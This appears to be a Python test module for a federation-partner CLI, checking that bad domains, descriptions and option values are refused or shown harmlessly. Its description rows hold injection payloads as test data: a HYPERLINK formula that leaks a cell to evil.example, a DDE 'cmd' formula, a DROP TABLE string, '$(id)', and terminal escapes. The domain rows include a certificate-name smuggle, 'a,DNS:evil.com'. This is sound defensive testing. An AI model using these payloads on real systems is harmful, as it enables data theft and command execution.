"""Rows of the bad-inputs test: what is wrong with the values of fields."""

import json
import resource
import sqlite3

import process
from bad_inputs import row, unsafe_characters
from bad_inputs_manifest import LONG_DESCRIPTION, NUL_IN_DESCRIPTION, NUL_IN_DOMAIN, sasl_without_tls
from process import CONFLICT, DONE, REFUSED, USAGE

# --- domains ------------------------------------------------------------------------------------------

# How a domain comes in: the words before it, the field that the message names, and its JSON key.
DOMAIN_ROADS = (
    (["partner", "new", "--primary"], "primary domain", "primary_domain"),
    (["partner", "new", "--primary", "new.example", "--additional"], "additional domain", "additional_domains"),
    (["partner", "new", "--primary", "new.example", "--proxy-fqdn"], "proxy FQDN", "proxy_fqdn"),
    (["partner", "edit", "fabrikam.com", "--primary"], "primary domain", "primary_domain"),
    (["partner", "edit", "fabrikam.com", "--add-domain"], "additional domain", "additional_domains"),
    (["partner", "edit", "fabrikam.com", "--proxy-fqdn"], "proxy FQDN", "proxy_fqdn"),
)


def bad_domain(*texts, says=()):
    """The domain is refused by every road, and as an argument that names a partner."""

    def case(bench, name):
        for text in texts:
            for words, field, key in DOMAIN_ROADS:
                if text == "" and key != "primary_domain":
                    continue  # "" clears these
                label = f"{name} ({process.shown(text, 60)} after {words[-1]})"
                bench.refused(label, [*words, text], REFUSED, [field, *says], key, "domain-invalid")
            for verb in ("show", "validate"):
                label = f"{name} ({process.shown(text, 60)} to {verb})"
                bench.refused(label, ["partner", verb, "--", text], REFUSED, ["domain", *says], None, "domain-invalid")

    return case


def equal_domains(canonical, *spellings):
    """Each spelling is stored in the canonical form and finds the partner; a twin is claimed already."""

    def case(bench, name):
        for spelling in (canonical, *spellings):
            store = bench.accepted(name, ["partner", "new", "--primary", spelling, "--type", "federated"])
            bench.check(canonical in bench.primaries(store), f"{name}: {spelling!a} is stored as {canonical}")
            for twin in (canonical, *spellings):
                found = bench.partner(store, twin)
                bench.check(found and found["primary_domain"] == canonical, f"{name}: {twin!a} finds {spelling!a}")
                words = ["partner", "new", "--primary", twin, "--type", "federated"]
                bench.refused(f"{name} ({twin!a} beside {spelling!a})", words, CONFLICT,
                              ["primary domain", canonical], "primary_domain", "domain-claimed", store)

    return case


def suspicious_domain(text, canonical, rule):
    def case(bench, name):
        words = ["partner", "new", "--type", "federated", "--primary", text]
        store = bench.accepted(name, words, warns="primary domain", rule=rule)
        bench.check(canonical in bench.primaries(store), f"{name}: it is committed")
        words = ["partner", "edit", "fabrikam.com", "--additional", text]
        store = bench.accepted(name, words, warns="additional domain", rule=rule)
        bench.check(bench.partner(store, "fabrikam.com")["additional_domains"] == [canonical], f"{name}: it is added")

    return case


def accepted_domain(text):
    def case(bench, name):
        store = bench.accepted(name, ["partner", "new", "--type", "federated", "--primary", text])
        bench.check(text in bench.primaries(store), f"{name}: it is committed")

    return case


def quick_refusal(text):
    """Processor time, the least of five: what else the machine does is not measured."""

    def case(bench, name):
        most = 1.0 if process.SANITIZED else 0.1
        times = []
        for _ in range(5):
            before = resource.getrusage(resource.RUSAGE_CHILDREN)
            process.run("partner", "new", "--primary", text, store=bench.missing())
            after = resource.getrusage(resource.RUSAGE_CHILDREN)
            times.append(after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime)
        bench.check(min(times) < most, f"{name}: answered in less than {most} s of processor time, not {min(times):.3f}")

    return case


def stored(statements, says, schema_refuses=False):
    """Values that no command line can carry, written past the program: the checks name the field and change nothing.
    With `schema_refuses` the store's own constraints stop them first."""

    def case(bench, name):
        if schema_refuses:
            store = bench.store()
            before = process.raw(store)
            try:
                process.edit_database(store, *statements)
                refused = False
            except sqlite3.IntegrityError:
                refused = True
            bench.check(refused, f"{name}: the schema refuses it")
            bench.unchanged(name, store, before)
        store = bench.store()
        process.edit_database(store, "PRAGMA ignore_check_constraints = ON", *statements)
        before = process.raw(store)
        for words in (["partner", "validate"], ["store", "check"]):
            result = process.run(*words, store=store)
            bench.sound(name, result)
            text = (result.out + result.err).decode(errors="replace")
            label = f"{name}: `{' '.join(words)}`"
            bench.check(result.code == REFUSED, f"{label} exits {REFUSED}: {result}")
            bench.check(all(word in text for word in says), f"{label} names {says}: {result}")
            document = json.loads(process.run(*words, "-o", "json", store=store).out)
            bench.check(document["errors"] > 0, f"{label} counts errors: {document}")
        for words in (["partner", "list"], ["history"], ["store", "info"]):
            result = process.run(*words, store=store)
            bench.sound(f"{name}: `{' '.join(words)}`", result)
        bench.unchanged(name, store, before)

    return case


def renamed_to(domain):
    return [
        ("UPDATE partner SET primary_domain = ? WHERE primary_domain = 'litwareinc.com'", (domain,)),
        ("UPDATE claim SET domain = ?1, partner = ?1 WHERE partner = 'litwareinc.com'", (domain,)),
    ]


def described_as(text):
    return [("UPDATE partner SET description = ? WHERE primary_domain = 'litwareinc.com'", (text,))]


LABEL_63 = "a" * 63
NAME_253 = ".".join([LABEL_63, LABEL_63, LABEL_63, "b" * 61])
NAME_254 = ".".join([LABEL_63, LABEL_63, LABEL_63, "b" * 62])

DOMAIN = [
    row("Domain", "empty", bad_domain("", says=["empty"])),
    row("Domain", "`.`", bad_domain(".", says=["empty label"])),
    row("Domain", "`a..b`", bad_domain("a..b", says=["empty label"])),
    row("Domain", "`.a.b`", bad_domain(".a.b", says=["empty label"])),
    row("Domain", "`-a.com`", bad_domain("-a.com", says=["hyphen"])),
    row("Domain", "`a-.com`", bad_domain("a-.com", says=["hyphen"])),
    row("Domain", "a label of 64 octets", bad_domain("a" * 64 + ".com", says=["64 octets", "63"])),
    row("Domain", "a name of 254", bad_domain(NAME_254, says=["254 octets", "253"])),
    row("Domain", "`a_b.com`", bad_domain("a_b.com", says=["'_'"])),
    row("Domain", "`a b.com`", bad_domain("a b.com", says=["' '"])),
    row("Domain", "`a.com` with a newline", bad_domain("a.com\n", "\na.com", "a\n.com", says=["U+000A"])),
    row("Domain", "with a NUL", stored(renamed_to("litwareinc\0.com"), ["primary domain", "U+0000", "domain-invalid"]),
        NUL_IN_DOMAIN),
    row("Domain", "`*.a.com`", bad_domain("*.a.com", says=["wildcard"])),
    row("Domain", "`192.0.2.1`", bad_domain("192.0.2.1", says=["IP address"])),
    row("Domain", "`[::1]`", bad_domain("[::1]", says=["IP address"])),
    row("Domain", "`2001:db8::1`", bad_domain("2001:db8::1", says=["IP address"])),
    row("Domain", "`u@a.com`", bad_domain("u@a.com", says=["JID"])),
    row("Domain", "`a.com/r`", bad_domain("a.com/r", says=["path"])),
    row("Domain", "`a.com:5269`", bad_domain("a.com:5269", says=["port"])),
    row("Domain", "`https://a.com`", bad_domain("https://a.com", says=["scheme"])),
    row("Domain", "`a.1`", bad_domain("a.1", says=["all-numeric", "'1'"])),
    row("Domain", "U+200B and U+00AD (which UTS 46 would drop)",
        bad_domain("a\u200bb.com", says=["U+200B"]), bad_domain("a\u00adb.com", "\u00ad.com", says=["U+00AD"])),
    row("Domain", "U+202E", bad_domain("a\u202eb.com", says=["U+202E"])),
    row("Domain", "`xn--example-.org`", bad_domain("xn--example-.org", says=["xn--example-"])),
    row("Domain", "`example.org.xn--`", bad_domain("example.org.xn--", says=["xn--"])),
    row("Domain", "`xn--a`", bad_domain("xn--a", says=["xn--a"])),
    row("Domain", "a 100 kB label (answered in under 100 ms)",
        bad_domain("a" * 100_000, "ü" * 50_000), quick_refusal("a" * 100_000), quick_refusal("ü" * 50_000)),
    row("Domain", "`%`", bad_domain("%", "a%n.com", says=["'%'"])),
    row("Domain", "`a,DNS:evil.com`", bad_domain("a,DNS:evil.com", says=["DNS:evil.com"])),
    row("Domain", "bytes `ff fe`", bad_domain(b"\xff\xfe", b"a\xff\xfe.com", says=["UTF-8"])),
    row("Domain", "Accepted and equal: `example.com.`", equal_domains("example.com", "example.com.")),
    row("Domain", "Accepted and equal: `EXAMPLE.com`", equal_domains("example.com", "EXAMPLE.com")),
    row("Domain", "Accepted and equal: `bücher.example` and `xn--bcher-kva.example`",
        equal_domains("xn--bcher-kva.example", "b\u00fccher.example", "XN--BCHER-KVA.example")),
    row("Domain", "Accepted and equal: NFC and NFD spellings",
        equal_domains("xn--bcher-kva.example", "b\u00fccher.example", "bu\u0308cher.example", "BU\u0308CHER.example")),
    row("Domain", "Accepted and equal: an ideographic full stop as a dot",
        equal_domains("example.com", "example\u3002com", "example\u3002com\u3002")),
    row("Domain", "Accepted with a warning: a Latin label with one Cyrillic letter",
        suspicious_domain("p\u0430ypal.fabrikam.com", "xn--pypal-4ve.fabrikam.com", "domain-mixed-script")),
    row("Domain", "Accepted with a warning: a single label",
        suspicious_domain("intranet", "intranet", "domain-single-label")),
    row("Domain", "Accepted with a warning: `co.uk`", suspicious_domain("co.uk", "co.uk", "domain-public-suffix")),
    row("Domain", "Accepted: a name of 253 octets", accepted_domain(NAME_253)),
]

# --- descriptions -------------------------------------------------------------------------------------


def bad_description(*texts, says=()):
    def case(bench, name):
        for text in texts:
            for words in (["new", "--primary", "new.example"], ["edit", "fabrikam.com"]):
                label = f"{name} ({process.shown(text, 40)} to {words[0]})"
                bench.refused(label, ["partner", *words, "--description", text], REFUSED,
                              ["description", *says], "description", "description-invalid")

    return case


def shown_description(*texts):
    """Committed as it is, and harmless wherever it is shown."""

    def case(bench, name):
        for text in texts:
            words = ["--description", text]
            store = bench.accepted(name, ["partner", "new", "--type", "federated", "--primary", "new.example", *words])
            bench.accepted(name, ["partner", "edit", "litwareinc.com", *words], store)
            for domain in ("new.example", "litwareinc.com"):
                found = bench.partner(store, domain)
                bench.check(found and found["description"] == text, f"{name}: {text!a} is stored as it is: {found}")
            bench.check(len(bench.primaries(store)) == 3, f"{name}: the other partners are there")
            for command in (["list"], ["show", "new.example"], ["show", "new.example", "-o", "json"],
                            ["list", "-o", "jsonl"], ["list", "-o", "csv"]):
                result = process.run("partner", *command, store=store)
                bench.check(result.code == DONE, f"{name}: `{' '.join(command)}` shows it: {result}")
                found = unsafe_characters(result.out.replace(b"\r\n", b"\n"))
                bench.check(not found, f"{name}: `{' '.join(command)}` shows it harmlessly, not {found}")
            spreadsheet = process.run("partner", "list", "-o", "csv", store=store).out.decode()
            dangerous = text[0] in "=+-@\t\r\n'＝＋－＠"
            cell = ("'" if dangerous else "") + text.replace('"', '""')
            cell = f'"{cell}"' if any(c in cell for c in '",\r\n') else cell
            bench.check(f",{cell}," in spreadsheet, f"{name}: the CSV cell is {cell!a}: {spreadsheet!a}")

    return case


ONE_MIB = "a" * (1 << 20)

DESCRIPTION = [
    row("Description", "NUL", stored(described_as("a\0b"), ["description", "U+0000", "description-invalid"]),
        NUL_IN_DESCRIPTION),
    row("Description", "ESC sequences", bad_description("\x1b[31mred", "a\x1b]0;title\x07", says=["U+001B"])),
    row("Description", "CR", bad_description("a\rb", "a\r\nb", says=["U+000D"])),
    row("Description", "U+009B", bad_description("a\u009b31m", says=["U+009B"])),
    row("Description", "U+2066", bad_description("a\u2066b", says=["U+2066"])),
    row("Description", "U+2028", bad_description("a\u2028b", says=["U+2028"])),
    row("Description", "U+0085", bad_description("a\u0085b", says=["U+0085"])),
    row("Description", "1,025 characters", bad_description("a" * 1025, "\U0001f600" * 1025, says=["1025", "1024"]),
        stored(described_as("a" * 1025), ["description", "1025"], schema_refuses=True)),
    # One word of a command line holds 128 KiB at most; what is longer comes from a file.
    row("Description", "1 MiB", bad_description("a" * 131_000, says=["131000"]),
        stored(described_as(ONE_MIB), ["description", "1048576"], schema_refuses=True), LONG_DESCRIPTION),
    row("Description", "bytes `ff fe`", bad_description(b"\xff\xfe", b"a\xff\xfeb", says=["UTF-8"])),
    row("Description", "Accepted and shown harmlessly: `=HYPERLINK(…)`",
        shown_description('=HYPERLINK("http://evil.example/?"&A1,"click")')),
    row("Description", "Accepted and shown harmlessly: `+1`", shown_description("+1", "-1", "-2+3")),
    row("Description", "Accepted and shown harmlessly: `@x`", shown_description("@x", "@SUM(1+1)*cmd|' /C calc'!A0")),
    row("Description", "Accepted and shown harmlessly: `');DROP TABLE`",
        shown_description("');DROP TABLE partner;--")),
    row("Description", "Accepted and shown harmlessly: `$(id)`", shown_description("$(id)")),
    row("Description", "Accepted and shown harmlessly: backticks", shown_description("`id`")),
    row("Description", "Accepted and shown harmlessly: `’;calc;’`", shown_description("\u2019;calc;\u2019")),
    row("Description", "Accepted and shown harmlessly: `]]--`", shown_description("]]--")),
    row("Description", "Accepted and shown harmlessly: `%n`", shown_description("%n%s%n", "{} {0}")),
    row("Description", "Accepted and shown harmlessly: emoji",
        shown_description("\U0001f469\u200d\U0001f4bb \U0001f1e9\U0001f1ea \u2764\ufe0f")),
]

# --- additional domains -------------------------------------------------------------------------------


def bad_additional(*item_sets, code=REFUSED, rule="domain-duplicate", primary="new.example", says=()):
    """Each set of items is refused by `new` and by `edit`, as one list and as repeated options."""

    def case(bench, name):
        for items in item_sets:
            repeated = [word for item in items for word in ("--additional", item)]
            for words in (["new", "--primary", primary, "--additional", ",".join(items)],
                          ["new", "--primary", primary, *repeated],
                          ["edit", "litwareinc.com", "--primary", primary, "--additional", ",".join(items)]):
                label = f"{name} ({process.shown(items, 60)} to {words[0]})"
                bench.refused(label, ["partner", *words], code, ["additional domain", *says], "additional_domains", rule)

    return case


THOUSAND_AND_ONE = [f"d{number}.new.example" for number in range(1001)]


def thousand_items(bench, name):
    """The limit itself is accepted; one more by --add-domain is not."""
    words = ["partner", "new", "--type", "federated", "--primary", "new.example"]
    store = bench.accepted(name, [*words, "--additional", ",".join(THOUSAND_AND_ONE[:1000])])
    found = bench.partner(store, "new.example")
    bench.check(found and len(found["additional_domains"]) == 1000, f"{name}: 1,000 are accepted")
    bench.refused(name, ["partner", "edit", "new.example", "--add-domain", THOUSAND_AND_ONE[1000]], REFUSED,
                  ["additional domain", "1001"], "additional_domains", "value-out-of-range", store)


ADDITIONAL = [
    row("Additional domains", "the primary again", bad_additional(["new.example"], ["a.new.example", "new.example"])),
    row("Additional domains", "a case, dot or A-/U-label twin",
        bad_additional(["a.new.example", "A.new.example"], ["a.new.example", "a.new.example."],
                       ["b\u00fccher.new.example", "xn--bcher-kva.new.example"], ["NEW.example"], ["new.example."]),
        bad_additional(["b\u00fccher.example"], primary="xn--bcher-kva.example")),
    row("Additional domains", "another partner's domain",
        bad_additional(["fabrikam.com"], ["it.fabrikam.com"], ["a.new.example", "IT.Fabrikam.com."],
                       code=CONFLICT, rule="domain-claimed", says=["fabrikam.com"])),
    row("Additional domains", "an empty item",
        bad_additional(["a.new.example", ""], ["", "a.new.example"], ["a.new.example", "", "b.new.example"],
                       rule="domain-invalid", says=["empty"])),
    row("Additional domains", "1,001 items",
        bad_additional(THOUSAND_AND_ONE, rule="value-out-of-range", says=["1001"]), thousand_items),
]

# --- enumerations -------------------------------------------------------------------------------------

ENUMERATIONS_OF = {
    "partner new --primary new.example": ["--type", "--tls", "--sasl", "--preset"],
    "partner edit fabrikam.com": ["--type", "--tls", "--sasl", "--preset"],
    "partner list": ["--type", "--tls", "--sasl", "--sort", "--output", "--color"],
    "partner explain": ["--tls", "--sasl", "--preset", "--peer-tls", "--peer-sasl"],
}
BOOLEANS_OF = {
    "partner new --primary new.example": ["--dialback", "--keepalive", "--enabled"],
    "partner edit fabrikam.com": ["--dialback", "--keepalive", "--enabled"],
    "partner list": ["--dialback"],
    "partner explain": ["--dialback", "--peer-dialback"],
}


def bad_value(*texts, options_of=None, says=()):
    def case(bench, name):
        for text in texts:
            for command, options in (options_of or ENUMERATIONS_OF).items():
                for option in options:
                    bench.refused(f"{name} ({text!a} for {option} of {command})", [*command.split(), option, text],
                                  USAGE, [option, *says])

    return case


ENUMERATIONS = [
    row("Enumerations", "`requıred` (dotless i)", bad_value("requ\u0131red"),
        bad_value("requ\u0131red", options_of={"partner edit fabrikam.com": ["--tls"]}, says=["required"])),
    row("Enumerations", "`0`", bad_value("0", "1"), bad_value("0", "1", options_of=BOOLEANS_OF)),
    row("Enumerations", "`null`", bad_value("null"), bad_value("null", options_of=BOOLEANS_OF)),
    row("Enumerations", "empty", bad_value("", " ", "-"), bad_value("", options_of=BOOLEANS_OF)),
    row("Enumerations", "`yes` for dialback", bad_value("yes", "on", "1", "t", options_of=BOOLEANS_OF)),
]

# --- SASL without TLS ---------------------------------------------------------------------------------

NO_TLS = ["SASL", "TLS", "sasl-requires-tls"]


def refused_for_tls(*word_lists, prepare=()):
    def case(bench, name):
        for words in word_lists:
            store = bench.store()
            for preparation in prepare:
                result = process.run("partner", *preparation, store=store)
                bench.check(result.code == DONE, f"{name}: prepared: {result}")
            bench.refused(f"{name} ({' '.join(words)})", ["partner", *words], REFUSED, NO_TLS, "sasl",
                          "sasl-requires-tls", store)

    return case


def racing_edits(bench, name):
    """A handful; the thousand are a test of their own."""
    pairs = (["--tls", "not-supported"], ["--sasl", "optional"])
    for turn in range(20):
        store = bench.store()
        start = process.run("partner", "edit", "litwareinc.com", "--tls", "optional", store=store)
        bench.check(start.code == DONE, f"{name}: prepared: {start}")
        starts = [(["partner", "edit", "litwareinc.com", *words, "--store", store, "--wait", "60"], 0) for words in pairs]
        starters = process.Starters(starts if turn % 2 else starts[::-1])
        starters.release()
        results = starters.results()
        found = bench.partner(store, "litwareinc.com")
        bench.check(sorted(result.code for result in results) == [DONE, REFUSED],
                    f"{name}: one wins and the other is refused: {[str(result) for result in results]}")
        bench.check(found["sasl"] == "not-supported" or found["tls"] != "not-supported",
                    f"{name}: never SASL without TLS: {found}")


SASL_WITHOUT_TLS = [
    row("SASL without TLS", "new",
        refused_for_tls(*(["new", "--primary", "new.example", "--tls", "not-supported", "--sasl", sasl, "--dialback", d]
                          for sasl in ("required", "optional") for d in ("true", "false")),
                        ["new", "--primary", "new.example", "--tls", "not-supported"],
                        ["new", "--primary", "new.example", "--preset", "dialback", "--sasl", "required"],
                        ["new", "--primary", "new.example", "--preset", "strict", "--tls", "NotSupported"])),
    row("SASL without TLS", "edit of `--tls` alone",
        refused_for_tls(["edit", "fabrikam.com", "--tls", "not-supported"]),
        refused_for_tls(["edit", "fabrikam.com", "--tls", "not-supported"],
                        prepare=[["edit", "fabrikam.com", "--sasl", "optional", "--dialback", "true"]])),
    row("SASL without TLS", "edit of `--sasl` alone",
        refused_for_tls(["edit", "litwareinc.com", "--sasl", "required"],
                        ["edit", "litwareinc.com", "--sasl", "optional"])),
    row("SASL without TLS", "two edits racing", racing_edits),
    row("SASL without TLS", "manifest", sasl_without_tls),
    row("SASL without TLS",
        "a row written past the program with SQL (the schema refuses it, and `store check` reports one that got in)",
        stored(["UPDATE partner SET sasl = 'required' WHERE primary_domain = 'litwareinc.com'"], NO_TLS,
               schema_refuses=True),
        stored(["UPDATE partner SET tls = 'not-supported' WHERE primary_domain = 'fabrikam.com'"], NO_TLS,
               schema_refuses=True)),
]

ROWS = [*DOMAIN, *DESCRIPTION, *ADDITIONAL, *ENUMERATIONS, *SASL_WITHOUT_TLS]
